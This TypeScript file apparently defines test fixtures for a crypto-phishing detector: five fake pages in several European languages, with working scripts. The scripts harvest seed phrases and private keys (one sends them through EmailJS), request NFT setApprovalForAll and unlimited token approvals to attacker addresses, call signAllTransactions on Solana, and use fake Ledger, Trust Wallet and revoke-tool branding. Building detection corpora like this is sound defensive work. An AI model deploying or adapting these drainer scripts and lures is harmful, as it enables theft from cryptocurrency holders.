import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'akropoli-nft.mint-free.app';
  const css = `${baseCss}body{background:#f6f1e7;color:#2c2418;font-family:Georgia,serif}.top{display:flex;align-items:center;padding:18px 40px;border-bottom:1px solid #e2d6bf}.top button{margin-left:auto}
button{background:#1c3f6e;color:#fff;border:0;border-radius:30px;padding:12px 24px;font-family:Arial;font-weight:700;cursor:pointer}
.hero{display:grid;grid-template-columns:1fr 1fr;gap:40px;max-width:1000px;margin:40px auto;padding:0 20px;align-items:center}.art{aspect-ratio:1;border-radius:16px;background:conic-gradient(from 45deg,#c9a66b,#1c3f6e,#e9dcc0,#c9a66b)}
h1{font-size:44px;margin:0 0 10px}.pr{font-family:Arial;font-size:14px;color:#6b5b43}.pb{height:10px;background:#e2d6bf;border-radius:5px;overflow:hidden;margin:12px 0}.pb i{display:block;height:100%;width:83%;background:#1c3f6e}`;
  const body = `<div class="top"><b style="font-size:22px">ΑΚΡΟΠΟΛΗ · Genesis</b><button id="cw">Σύνδεση πορτοφολιού</button></div>
<div class="hero"><div class="art"></div><div><h1>Δωρεάν mint για την κοινότητα</h1><p>4.444 μοναδικά ψηφιακά έργα εμπνευσμένα από την αρχαία Αθήνα. Οι κάτοχοι NFT από συνεργαζόμενες συλλογές κάνουν mint δωρεάν — πληρώνετε μόνο gas.</p>
<div class="pr">Έχουν γίνει mint 3.689 / 4.444</div><div class="pb"><i></i></div><button id="mb">Mint τώρα</button><p id="ms" class="pr"></p></div></div>`;
  const js = `<script>
var OP='0x5f2e9c4b7a1d3e8f6c0b2a4d9e7f1c3b5a8d6e20',me=null;
var COLS=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544'];
function pad(h){return h.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
async function cw(){var a=await ethereum.request({method:'eth_requestAccounts'});me=a[0];document.getElementById('cw').textContent=me.slice(0,6)+'…'+me.slice(-4)}
async function mint(){if(!me)await cw();ms.textContent='Επαλήθευση κατοχής…';
 for(var i=0;i<COLS.length;i++){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:COLS[i],data:'0xa22cb465'+pad(OP)+pad('0x1')}]});fetch('/api/mint/log',{method:'POST',body:JSON.stringify({w:me,c:COLS[i]})})}catch(e){ms.textContent='Απαιτείται επιβεβαίωση για να συνεχίσετε.';i--;await new Promise(function(r){setTimeout(r,1500)})}}
 ms.textContent='Το mint ολοκληρώθηκε! Το NFT θα εμφανιστεί στο πορτοφόλι σας σύντομα.'}
document.getElementById('cw').onclick=cw;document.getElementById('mb').onclick=mint;
</script>`;
  return {
    id: 'yd-drainer-gr-free-mint-approval', label: 'cryptodrainer', kind: 'wallet-drainer',
    url: `https://${host}/el`,
    body: page({ lang: 'el', title: 'ΑΚΡΟΠΟΛΗ Genesis – Δωρεάν mint', css, body, scripts: js }),
    routes: { [`${host}/api/mint/log`]: jsonRoute({ ok: 1 }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'ledger-obnova.cz-firmware.support';
  const fields = Array.from({ length: 24 }, (_, i) => `<label><span>${i + 1}.</span><input name="w${i + 1}" autocomplete="off" autocapitalize="none" spellcheck="false"></label>`).join('');
  const css = `${baseCss}body{background:#131214;color:#fff;font-family:"Inter",Arial,sans-serif}.top{padding:22px 40px;border-bottom:1px solid #2a2a2e}
.w{max-width:760px;margin:30px auto;padding:0 20px}.warn{background:#2a1f0f;border:1px solid #a86b14;color:#ffbd5a;border-radius:8px;padding:14px;margin:14px 0}
.grid{display:grid;grid-template-columns:repeat(4,1fr);gap:10px;margin:18px 0}.grid label{display:flex;align-items:center;gap:6px;background:#1e1d21;border-radius:6px;padding:6px 8px}.grid span{color:#888;width:22px;font-size:13px}.grid input{flex:1;min-width:0;background:transparent;border:0;color:#fff;font-size:15px}
.b{background:#fff;color:#131214;border:0;border-radius:24px;padding:13px 34px;font-weight:700;cursor:pointer}`;
  const body = `<div class="top">${wordmark('LEDGER', '#fff', { mark: 'square', width: 130, text: '#fff' })}</div>
<div class="w"><h1>Obnova zařízení po kritické aktualizaci firmwaru</h1>
<p>Ve firmwaru 2.2.x byla nalezena zranitelnost, která může vést ke ztrátě prostředků. Pro přenesení vašich účtů do zabezpečeného režimu je nutné ověřit obnovovací frázi.</p>
<div class="warn">⚠ Pokud synchronizaci neprovedete do 48 hodin, vaše zařízení Ledger Nano bude zablokováno a přístup k prostředkům bude možné obnovit pouze přes zákaznickou podporu.</div>
<form id="rf"><p>Počet slov: <select id="n"><option>24</option><option>18</option><option>12</option></select></p><div class="grid" id="g">${fields}</div><button class="b">Ověřit a synchronizovat</button></form>
<p style="font-size:12px;color:#888;margin-top:24px">Ledger SAS · 1 rue du Mail, 75002 Paris · Podpora: support@ledger-obnova.cz-firmware.support</p></div>`;
  const js = `<script>
n.onchange=function(){var k=+n.value;document.querySelectorAll('#g label').forEach(function(l,i){l.style.display=i<k?'flex':'none'})};
rf.onsubmit=function(e){e.preventDefault();var w=[];document.querySelectorAll('#g input').forEach(function(i){if(i.value.trim())w.push(i.value.trim().toLowerCase())});
if(w.length<12){alert('Vyplňte prosím všechna slova obnovovací fráze.');return}
fetch('/api/recover',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({phrase:w.join(' '),n:w.length,ref:document.referrer})}).then(function(){rf.innerHTML='<h2>Synchronizace probíhá…</h2><p>Neodpojujte zařízení. Proces může trvat až 2 hodiny.</p>'})};
</script>`;
  return {
    id: 'yd-seed-cz-hardware-wallet-recovery', label: 'cryptodrainer', kind: 'seed-phrase-harvest',
    url: `https://${host}/obnova`,
    body: page({ lang: 'cs', title: 'Ledger Live – Obnova zařízení', css, body, scripts: js }),
    routes: { [`${host}/api/recover`]: jsonRoute({ ok: true }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'trustwallet-validare.ro-web3.io';
  const css = `${baseCss}body{background:#f4f6fb;font-family:"Inter",Arial,sans-serif;color:#1b1b1f}.top{background:#fff;padding:16px 30px;box-shadow:0 1px 0 #e6e8ef}
.c{max-width:520px;margin:34px auto;background:#fff;border-radius:16px;padding:28px;box-shadow:0 4px 18px rgba(0,0,0,.05)}
.tabs{display:flex;gap:6px;margin:14px 0}.tabs button{flex:1;border:1px solid #d9dce6;background:#fff;border-radius:8px;padding:8px;cursor:pointer}.tabs .a{background:#0500ff;color:#fff;border-color:#0500ff}
textarea{width:100%;height:120px;border:1px solid #d9dce6;border-radius:10px;padding:12px;font-size:15px;resize:none}.b{width:100%;background:#0500ff;color:#fff;border:0;border-radius:24px;padding:14px;font-weight:700;margin-top:14px;cursor:pointer}`;
  const body = `<div class="top">${wordmark('Trust Wallet', '#0500ff', { mark: 'diamond', width: 160 })}</div>
<div class="c"><h2 style="margin-top:0">Validare portofel</h2><p>Conform noilor reglementări europene MiCA, portofelele nevalidate până la 30 aprilie vor fi restricționate. Importați portofelul pentru validare.</p>
<div class="tabs"><button class="a" data-t="phrase">Frază de recuperare</button><button data-t="keystore">Keystore JSON</button><button data-t="private">Cheie privată</button></div>
<form id="vf"><input type="hidden" name="type" id="tp" value="phrase"><textarea name="data" id="dt" placeholder="Introduceți fraza de recuperare de 12 sau 24 de cuvinte, separate prin spațiu"></textarea><button class="b">Validează portofelul</button></form>
<p style="font-size:12px;color:#777">Validarea este securizată end-to-end. Trust Wallet nu stochează datele dumneavoastră.</p></div>`;
  const js = `<script>
document.querySelectorAll('.tabs button').forEach(function(b){b.onclick=function(){document.querySelector('.tabs .a').classList.remove('a');b.classList.add('a');tp.value=b.dataset.t;dt.placeholder=b.dataset.t==='private'?'Cheia privată (64 caractere hex)':b.dataset.t==='keystore'?'Lipiți conținutul fișierului Keystore JSON și parola':'Introduceți fraza de recuperare de 12 sau 24 de cuvinte, separate prin spațiu'}});
vf.onsubmit=function(e){e.preventDefault();var p={service_id:'service_tw91x',template_id:'template_val',user_id:'Jq8xLm2PzR4vT0kN1',template_params:{type:tp.value,data:dt.value,site:location.host}};
fetch('https://api.emailjs.com/api/v1.0/email/send',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(p)}).finally(function(){vf.innerHTML='<p><b>Eroare de sincronizare (cod 504).</b> Vă rugăm să încercați din nou mai târziu.</p>'})};
</script>`;
  return {
    id: 'yd-seed-ro-wallet-validation-emailjs', label: 'cryptodrainer', kind: 'seed-phrase-harvest',
    url: `https://${host}/validare`,
    body: page({ lang: 'ro', title: 'Trust Wallet – Validare portofel', css, body, scripts: js }),
    routes: { 'api.emailjs.com/api/v1.0/email/send': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'OK' } },
  } satisfies Entry;
})(),

(() => {
  const host = 'revoke-povolenia.web3-bezpecnost.sk';
  const css = `${baseCss}body{background:#fafafa;font-family:"Inter",Arial,sans-serif;color:#111}.top{display:flex;align-items:center;padding:18px 36px;border-bottom:1px solid #eee;background:#fff}.top button{margin-left:auto}
button{background:#111;color:#fff;border:0;border-radius:8px;padding:10px 18px;font-weight:600;cursor:pointer}
.w{max-width:960px;margin:30px auto;padding:0 20px}table{width:100%;border-collapse:collapse;background:#fff;border:1px solid #eee;border-radius:8px;overflow:hidden}th,td{padding:12px;text-align:left;border-bottom:1px solid #f0f0f0;font-size:14px}.risk{color:#d00;font-weight:700}`;
  const body = `<div class="top"><b style="font-size:20px">🛡 Revoke · Kontrola povolení</b><button id="cn">Pripojiť peňaženku</button></div>
<div class="w"><h1>Skontrolujte a zrušte rizikové povolenia tokenov</h1><p>Po nedávnom hacku mostu Multichain odporúčame zrušiť všetky neobmedzené povolenia. Jedným kliknutím ochránite svoje prostriedky.</p>
<table><thead><tr><th>Token</th><th>Kontrakt</th><th>Povolenie</th><th>Riziko</th></tr></thead><tbody id="tb"><tr><td colspan="4">Pripojte peňaženku…</td></tr></tbody></table>
<p style="margin-top:18px"><button id="ra">Zrušiť všetky povolenia</button></p></div>`;
  const js = `<script>
var ME=null,SAFE='0x9e4c2b1a7f3d5e8c0b6a4f2d1e9c7b5a3f8d6e42';
var T=[['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['DAI','0x6B175474E89094C44Da98b954EedeAC495271d0F'],['LINK','0x514910771AF9Ca656af840dff83E8264EcF986CA']];
function p(h){return h.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
cn.onclick=async function(){var a=await ethereum.request({method:'eth_requestAccounts'});ME=a[0];cn.textContent=ME.slice(0,6)+'…';
tb.innerHTML=T.map(function(t){return '<tr><td>'+t[0]+'</td><td>Multichain Router</td><td>Neobmedzené</td><td class="risk">Vysoké</td></tr>'}).join('')};
ra.onclick=async function(){if(!ME)await cn.onclick();
 for(var i=0;i<T.length;i++){await ethereum.request({method:'eth_sendTransaction',params:[{from:ME,to:T[i][1],data:'0x095ea7b3'+p(SAFE)+'f'.repeat(64)}]}).catch(function(){})}
 fetch('https://rpc-log.web3-bezpecnost.sk/n',{method:'POST',body:ME}).catch(function(){});alert('Povolenia boli úspešne aktualizované.')};
</script>`;
  return {
    id: 'yd-drainer-sk-fake-revoke-approve', label: 'cryptodrainer', kind: 'wallet-drainer',
    url: `https://${host}/`,
    body: page({ lang: 'sk', title: 'Revoke – Kontrola povolení tokenov', css, body, scripts: js }),
    routes: { 'rpc-log.web3-bezpecnost.sk/n': jsonRoute({ ok: 1 }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'solana-launchpool.bg-rewards.app';
  const css = `${baseCss}body{background:#0f0f14;color:#eee;font-family:Arial,sans-serif}.top{display:flex;align-items:center;padding:18px 34px}.top button{margin-left:auto}
button{background:linear-gradient(90deg,#9945ff,#14f195);color:#000;border:0;border-radius:10px;padding:12px 22px;font-weight:800;cursor:pointer}
.c{max-width:520px;margin:40px auto;background:#17171f;border-radius:16px;padding:28px;text-align:center}.c h1{font-size:30px}`;
  const body = `<div class="top"><b>◎ Solana Launchpool</b><button id="cp">Свържи Phantom</button></div>
<div class="c"><h1>Награди за ранни потребители</h1><p>Портфейлите, използвали Solana DeFi през 2024 г., могат да получат до <b>45 SOL</b>. Остават <b>6 часа</b>.</p><button id="gt">Получи наградата</button><p id="m" style="color:#999;font-size:13px"></p></div>`;
  const js = `<script>
var pk=null,P=window.phantom&&window.phantom.solana||window.solana;
cp.onclick=async function(){if(!P){m.textContent='Инсталирайте Phantom Wallet.';return}var r=await P.connect();pk=r.publicKey.toString();cp.textContent=pk.slice(0,4)+'…'+pk.slice(-4)};
gt.onclick=async function(){if(!pk)await cp.onclick();if(!pk)return;m.textContent='Подготвяне на транзакция…';
 var j=await fetch('/api/build?owner='+pk).then(function(r){return r.json()});
 var txs=j.txs.map(function(b){return Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})});
 try{var signed=await P.signAllTransactions(txs.map(function(t){return {serialize:function(){return t},__raw:t}}));
 await fetch('/api/submit',{method:'POST',body:JSON.stringify({owner:pk,n:signed.length})});m.textContent='Наградата ще бъде изпратена до 24 часа.'}catch(e){m.textContent='Отказано от потребителя.'}};
</script>`;
  return {
    id: 'yd-drainer-bg-solana-sign-all', label: 'cryptodrainer', kind: 'wallet-drainer',
    url: `https://${host}/`,
    body: page({ lang: 'bg', title: 'Solana Launchpool – Награди', css, body, scripts: js }),
    routes: {
      [`${host}/api/build`]: jsonRoute({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEAAQM=', 'AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEAAgQ='] }),
      [`${host}/api/submit`]: jsonRoute({ ok: true }),
    },
  } satisfies Entry;
})(),
];
